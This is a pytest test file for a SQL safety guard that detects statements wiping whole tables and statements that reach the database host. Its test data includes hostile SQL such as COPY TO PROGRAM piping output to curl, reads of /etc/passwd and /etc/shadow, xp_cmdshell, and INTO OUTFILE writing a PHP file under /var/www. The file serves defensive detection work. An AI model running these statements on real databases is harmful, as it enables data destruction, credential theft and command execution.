import pytest

from demur.guards.sql import find_host_access, find_sweeps

SWEEPING = [
    "DELETE FROM users",
    "delete from users;",
    "delete from t -- where x = 1",
    "delete from t /* where x = 1 */",
    "delete from t # where x = 1",
    "update t set a = 1",
    "update only t set a = 1",
    "UPDATE \"where\" SET x = 'where'",
    "update t set a = (select b from c where d = 1)",
    "update t set a = 1 where 1 = 1",
    "update t set a = 1 where true",
    "delete from t where 1",
    "delete from t where x = 1 or 1=1",
    "delete from t where 'a' = 'a' or x = 2",
    "select 1; delete from t",
    "explain analyze delete from t",
    "with a as (delete from t returning *) select * from a",
    "with x as (select 1) update t set a = 2",
    "/*!50000 delete from t*/",
    "DELETE t1 FROM t1 JOIN t2 ON t1.a = t2.a",
    "drop table if exists x",
    "drop table x",
    "drop table tmp_weekly, users",
    "drop database tmp_shop",
    "drop table tmp",
    "drop table temperature",
    "DROP DATABASE main",
    "truncate t",
    "truncate table t",
    "truncate t cascade",
    "begin delete from t",
    "delete from t where (1=1)",
    "delete from t where ((true)) or x = 2",
    "delete from t where 1=1 and 2=2",
    "delete from t where 1 < 2",
    "delete from t where not false",
    "delete from t where name like '%'",
    "delete from t where x = x",
    "delete from t where id > 0",
    "DELETE FROM t WHERE t.id >= 1",
    "update t set a = 1 where user_id <> 7",
    'update t set a = 1 where "id" is not null',
    "delete from t where id > -1",
    "delete from t where (id not in (1, 2))",
]
HARMLESS = [
    "",
    "select * from t",
    "delete from users where id = 3",
    "delete from t where x = 1 or y = 2",
    "delete from t where (x = 1 or y = 2)",
    "delete from t where amount > 0",
    "delete from t where id > 0 and state = 'old'",
    "delete from t where id > 4711",
    "delete from t where id < 0",
    "delete from t where id in (1, 2)",
    "delete from t where 1 > 2",
    "delete from t where not true",
    "drop table if exists tmp_weekly",
    "drop view weekly_temp; create temp view weekly_temp as select 1",
    "delete from t where name like 'tmp%'",
    "update t set a = 1 where x <> 3",
    "update t set a = 1 where id in (select id from u)",
    "delete from t where 0",
    "explain delete from t",
    "select * from t for update",
    "insert into t values (1) on conflict do update set a = 1",
    "create table a (b int references c on delete cascade)",
    "grant delete, update on t to bob",
    "select 'delete from t'",
    "select $$ drop table x $$",
    "select truncate(1.2, 1)",
    "truncate the long text here",
    "please update the set of docs",
    "delete from my list the eggs",
    "delete",
    "update",
    "drop",
    "drop index i",
    ";; drop index i",
    "update x set",
    "delete from",
    "delete from (x)",
    "/* delete from t",
    "'delete from t",
    "drop table",
    "truncate",
    "update ; set a = 1",
]


@pytest.mark.parametrize("text", SWEEPING)
def test_a_statement_that_affects_every_row_is_found(text: str) -> None:
    assert len(list(find_sweeps(text))) == 1


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_not(text: str) -> None:
    assert list(find_sweeps(text)) == []


def test_the_sweep_marks_its_statement_alone() -> None:
    text = "select 1; update t set a = (1) ; select 2"
    [sweep] = find_sweeps(text)

    assert text[sweep.start : sweep.end] == "update t set a = (1)"
    assert (sweep.verb, sweep.target, sweep.why) == ("update", "t", "no condition")


def test_a_place_inside_a_running_comment_is_right() -> None:
    text = "/*!40101 drop table [x] */"
    [sweep] = find_sweeps(text)

    assert text[sweep.start : sweep.end] == "drop table [x]"
    assert sweep.target == "x"


@pytest.mark.parametrize("text", ["/*" * 20_000, "[" * 40_000, "(" * 40_000, "delete " * 9_000])
def test_text_that_is_left_open_costs_no_more(text: str) -> None:
    assert list(find_sweeps(f"update {text}")) == []


def test_a_long_condition_is_read_to_its_end() -> None:
    words = ["delete from t where", *["a = b or"] * 5_000]

    found = list(find_sweeps(" ".join([*words, "1 = 1"])))
    assert [sweep.why for sweep in found] == ["a condition that always holds"]
    assert list(find_sweeps(" ".join([*words, "a = c"]))) == []


def test_comments_that_run_are_read_however_deep_they_are_nested() -> None:
    text = "/*!50000 " * 5_000 + "delete from t"

    assert [(sweep.target, sweep.end) for sweep in find_sweeps(text)] == [("t", len(text))]


def test_a_comment_that_runs_and_is_left_open_is_read_to_its_end() -> None:
    text = "/*!50000 truncate users"

    assert [(sweep.target, sweep.end) for sweep in find_sweeps(text)] == [("users", len(text))]


def test_a_quote_that_ends_in_a_backslash_is_left_open() -> None:
    assert list(find_sweeps("delete from t where a = 'b\\")) == []


@pytest.mark.parametrize(
    ("text", "want"),
    [
        ("COPY t TO PROGRAM 'curl a.example -d @-'", ("program", "program")),
        ("copy (select 1) from program 'id'", ("program", "program")),
        ("copy t to '/srv/out.csv'", ("file", "to")),
        ("copy t from '/etc/passwd'", ("file", "from")),
        ("select pg_read_file('/etc/passwd')", ("file", "pg_read_file")),
        ("SELECT Pg_Read_Binary_File ('x')", ("file", "pg_read_binary_file")),
        ("select * from pg_ls_dir('/')", ("file", "pg_ls_dir")),
        ("select lo_export(1, '/tmp/x')", ("file", "lo_export")),
        ("select load_file('/etc/shadow')", ("file", "load_file")),
        ("select a into outfile '/var/www/x.php' from t", ("file", "outfile")),
        ("load data infile '/etc/passwd' into table t", ("file", "infile")),
        ("exec master..xp_cmdshell 'dir'", ("program", "xp_cmdshell")),
        ("EXEC xp_cmdshell 'dir'", ("program", "xp_cmdshell")),
        ("select load_extension('x')", ("program", "load_extension")),
        ("select readfile('/etc/shadow')", ("file", "readfile")),
        ("/*!50000 select load_file('x') */", ("file", "load_file")),
    ],
)
def test_access_to_the_machine_of_the_database_is_found(text: str, want: tuple[str, str]) -> None:
    assert [(found.reach, found.name) for found in find_host_access(text)] == [want]


@pytest.mark.parametrize(
    "text",
    [
        "copy t to stdout",
        "copy t from stdin",
        "copy t from '/data/rows.csv'",
        "select program from t",
        "select 'copy t to program x'",
        "-- copy t to program 'x'",
        "select load_file from t",
        "load data local infile 'rows.csv' into table t",
        "insert into t values ('xp_cmdshell')",
        "please copy the file to 'docs'",
    ],
)
def test_ordinary_statements_reach_nothing(text: str) -> None:
    assert list(find_host_access(text)) == []
